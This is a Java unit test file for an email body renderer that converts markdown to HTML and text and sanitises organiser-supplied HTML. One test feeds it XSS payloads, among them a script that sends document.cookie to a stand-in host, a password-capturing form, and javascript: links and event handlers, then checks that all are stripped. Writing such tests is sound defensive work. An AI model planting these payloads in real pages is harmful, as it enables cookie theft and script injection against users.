package org.petitionpipeline.email.mailings.service;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class UpdateBodyRendererTest {

    private final UpdateBodyRenderer renderer = new UpdateBodyRenderer();

    @Test
    void markdownBecomesFormattedHtmlAndReadableText() {
        UpdateBodyRenderer.RenderedBody body = renderer.render("""
                # Big news

                We **won** the vote. Next:

                - call your senator
                - share the [petition](https://petitions.example/demo)
                """);

        assertThat(body.html()).contains("<h1>Big news</h1>", "<strong>won</strong>", "<li>call your senator</li>",
                "<a href=\"https://petitions.example/demo\">petition</a>");
        assertThat(body.text()).isEqualTo("""
                Big news

                We won the vote. Next:

                - call your senator
                - share the petition <https://petitions.example/demo>""");
    }

    @Test
    void organizerHtmlKeepsItsFormattingButLosesEverythingThatRunsOrLoads() {
        String hostile = """
                <p onclick="steal()" style="position:fixed">Hello <b>friends</b></p>
                <script>document.location='https://evil.example/?'+document.cookie</script>
                <iframe src="https://evil.example"></iframe>
                <form action="https://evil.example"><input name="password"></form>
                <a href="javascript:alert(1)">click</a> <a href="data:text/html,x">data</a>
                <img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>
                <style>body { display: none }</style>
                """;

        UpdateBodyRenderer.RenderedBody body = renderer.render(hostile);

        assertThat(body.html()).contains("<p>Hello <b>friends</b></p>", "<a>click</a>")
                .doesNotContainIgnoringCase("script").doesNotContain("onclick", "style", "iframe", "form", "input",
                        "javascript:", "data:", "onerror", "onload", "svg", "evil.example", "display");
        assertThat(body.text()).startsWith("Hello friends").doesNotContain("<", "cookie", "display");
    }

    @Test
    void markdownLinksToScriptsAreDropped() {
        assertThat(renderer.render("[x](javascript:alert(1)) and ![y](vbscript:msgbox)").html())
                .doesNotContain("javascript", "vbscript");
    }
}
